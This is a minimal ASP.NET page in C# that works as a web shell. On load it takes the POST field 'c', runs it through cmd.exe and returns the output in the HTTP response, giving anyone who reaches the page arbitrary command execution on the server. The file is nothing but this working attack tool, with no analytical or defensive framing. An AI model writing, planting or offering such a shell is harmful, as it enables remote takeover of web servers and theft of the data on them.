<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object sender, EventArgs e) {
  ProcessStartInfo psi = new ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]);
  psi.RedirectStandardOutput = true;
  psi.UseShellExecute = false;
  Process p = Process.Start(psi);
  Response.Write(p.StandardOutput.ReadToEnd());
}
</script>
